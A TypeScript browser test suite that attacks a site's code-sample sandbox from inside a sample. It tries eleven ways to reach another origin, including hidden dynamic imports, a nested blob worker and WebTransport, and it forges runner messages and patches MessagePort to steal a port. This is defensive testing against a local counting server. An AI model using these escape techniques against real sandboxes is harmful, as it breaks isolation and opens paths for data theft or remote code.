// The sample sandbox, attacked from a sample as a hostile reader would
// (issue 15): every way out to the network that a removed-globals list
// would miss (import() hidden in eval and new Function, a nested Worker on a
// blob: URL with fresh globals, caches, FontFace(url).load(), WebTransport,
// importScripts, XMLHttpRequest, WebSocket, EventSource, fetch) aimed at a
// second local server on another origin, which must see no request at all,
// while the browser reports each refusal as a CSP violation; a forged
// {type:'done'} on the worker's own channel, and an attempt to steal the
// runner's port through MessagePort.prototype; and a sample that prints
// 100,000 lines, which must leave the page responsive and say how many
// lines it left out.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { OUTPUT_HEAD_LINES, OUTPUT_TAIL_LINES } from '../../src/components/Example/outputBuffer.ts';
import { browserTest, type BrowserTestContext } from './harness.ts';
import { replaceCode, runExample } from './samples.ts';

const MAN_PATH = '/man9/zero_copy';
const SLUG = 'sysctl-zero-copy';

/** A server on another origin (another port) that counts what reaches it. */
async function otherOrigin(): Promise<{ origin: string; hits: string[]; close: () => Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('leaked');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return { origin: `http://127.0.0.1:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** The attacks, as one sample: each tries to reach `origin` and prints what happened to it. */
function attackSample(origin: string): string {
  return `// Each line tries to reach another origin; the CSP must refuse every one.
const violations: string[] = [];
(self as any).addEventListener('securitypolicyviolation', (e: any) => violations.push(e.violatedDirective.split(' ')[0]));
const tries: [string, () => Promise<unknown>][] = [
  ['fetch', () => fetch('${origin}/fetch')],
  ['import() in eval', () => (0, eval)("import('${origin}/eval-import.js')")],
  ['import() in new Function', () => new Function("return import('${origin}/function-import.js')")()],
  ['importScripts', async () => (self as any).importScripts('${origin}/import-scripts.js')],
  ['XMLHttpRequest', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open('GET', '${origin}/xhr'); x.send(); })],
  ['WebSocket', () => new Promise((resolve, reject) => { const w = new WebSocket('${origin.replace('http', 'ws')}/ws'); w.onopen = resolve; w.onerror = reject; })],
  ['EventSource', () => new Promise((resolve, reject) => { const s = new (self as any).EventSource('${origin}/sse'); s.onopen = resolve; s.onerror = reject; })],
  ['caches', async () => (await caches.open('leak')).add('${origin}/caches')],
  ['FontFace', () => new (self as any).FontFace('leak', 'url(${origin}/font.woff2)').load()],
  ['WebTransport', () => new (self as any).WebTransport('${origin.replace('http', 'https')}/wt').ready],
  ['nested Worker on blob:', () => new Promise((resolve, reject) => {
    const code = "fetch('${origin}/nested-fetch').then(() => postMessage('reached'), () => postMessage('refused'))";
    const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    w.onmessage = (e) => (e.data === 'reached' ? resolve(e.data) : reject(new Error(e.data)));
    w.onerror = (e) => { e.preventDefault(); reject(new Error('worker error')); };
  })],
];
for (const [name, attempt] of tries) {
  const outcome = await attempt().then(() => 'REACHED', (e: unknown) => 'refused');
  console.log(name + ': ' + outcome);
}
await new Promise((resolve) => setTimeout(resolve, 300));
console.log('CSP violations: ' + [...new Set(violations)].sort().join(' '));
`;
}

async function network(ctx: BrowserTestContext): Promise<void> {
  const other = await otherOrigin();
  try {
    const { page } = await ctx.openPage(MAN_PATH);
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    ctx.check("the page carries the site's Content-Security-Policy", meta !== null && meta.includes("default-src 'self'") && meta.includes("connect-src 'self'"), meta ?? '(none)');
    await replaceCode(page, SLUG, attackSample(other.origin));
    const result = await runExample(page, SLUG);
    const lines = result.text.split('\n').filter((l) => l !== '');
    const outcomes = lines.filter((l) => !l.startsWith('CSP violations'));
    ctx.check(`every way out is refused (${outcomes.length} tried)`, result.status === 'done' && outcomes.length === 11 && outcomes.every((l) => l.endsWith(': refused')), `${result.statusText}\n${result.text}`);
    const violations = lines.find((l) => l.startsWith('CSP violations')) ?? '';
    ctx.check('the browser reports the refusals as CSP violations (connect-src, script-src, font-src)', ['connect-src', 'script-src', 'font-src'].every((d) => violations.includes(d)), violations);
    ctx.check('the other origin received no request at all', other.hits.length === 0, other.hits.join('\n'));
  } finally {
    await other.close();
  }
}

async function protocol(ctx: BrowserTestContext): Promise<void> {
  const { page } = await ctx.openPage(MAN_PATH);
  await replaceCode(
    page,
    SLUG,
    `console.log('before the forged done');
self.postMessage({ type: 'done' });
self.postMessage({ type: 'output', lines: ['forged line'] });
await new Promise((resolve) => setTimeout(resolve, 300));
console.log('still running after it');
`,
  );
  const forged = await runExample(page, SLUG);
  ctx.check(
    "a sample's own {type:'done'} on the worker does not end its run, nor its forged output appear",
    forged.status === 'done' && forged.text === 'before the forged done\nstill running after it\n',
    `${forged.status}: ${forged.text}`,
  );
  await replaceCode(
    page,
    SLUG,
    `let stolen: MessagePort | null = null;
const original = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, ...args: any[]) {
  stolen = this;
  return (original as any).call(this, { type: 'done' });
};
Reflect.apply = () => undefined;
console.log('one');
console.log('two');
console.log('port stolen: ' + (stolen !== null));
`,
  );
  const steal = await runExample(page, SLUG);
  ctx.check(
    "patching MessagePort.prototype.postMessage and Reflect.apply neither hands the sample the runner's port nor ends the run",
    steal.status === 'done' && steal.text === 'one\ntwo\nport stolen: false\n',
    `${steal.status}: ${steal.text}`,
  );
}

async function longOutput(ctx: BrowserTestContext): Promise<void> {
  const { page } = await ctx.openPage(MAN_PATH);
  const total = 100_000;
  // Printed over many turns of the worker's event loop, so the page draws while the lines arrive.
  await replaceCode(page, SLUG, `for (let i = 0; i < ${total}; i++) {\n  console.log('line ' + i);\n  if (i % 1000 === 999) await new Promise((resolve) => setTimeout(resolve, 0));\n}\n`);
  const box = page.locator(`[data-example="${SLUG}"]`);
  const probes: number[] = [];
  await box.locator('button[data-action="run"]').click();
  const output = box.locator('[data-output]');
  while ((await output.getAttribute('data-status')) === 'running' || probes.length === 0) {
    const t0 = Date.now();
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => resolve(null))));
    probes.push(Date.now() - t0);
    if (probes.length > 400) break;
  }
  const status = await output.getAttribute('data-status');
  const omitted = Number(await box.locator('[data-output-omitted]').getAttribute('data-output-omitted'));
  const text = (await box.locator('[data-output-text]').textContent()) ?? '';
  ctx.check(`a sample printing ${total.toLocaleString('en-US')} lines finishes`, status === 'done', `${status}: ${await box.locator('[data-output-status]').textContent()}`);
  ctx.check(
    'the page keeps its first and last lines and says how many it left out',
    omitted === total - OUTPUT_HEAD_LINES - OUTPUT_TAIL_LINES && text.startsWith('line 0\n') && text.endsWith(`line ${total - 1}\n`) && text.includes(`${omitted.toLocaleString('en-US')} lines left out`),
    `omitted ${omitted}; ${text.slice(0, 40)} … ${text.slice(-40)}`,
  );
  const slowest = Math.max(...probes);
  ctx.check(`the page draws frames throughout (slowest ${slowest} ms over ${probes.length} frames)`, slowest < 1000, probes.join(' '));
  ctx.note(`100,000 printed lines in Chromium: slowest frame ${slowest} ms over ${probes.length} frames while running`);
  await page.locator(`[data-example="${SLUG}"] button[data-action="reset"]`).click();
}

export const sandboxTests = [
  browserTest('sandbox: no request leaves, whatever the sample reaches for', network),
  browserTest("sandbox: the runner's private channel", protocol),
  browserTest('sandbox: 100,000 lines of output', longOutput),
];
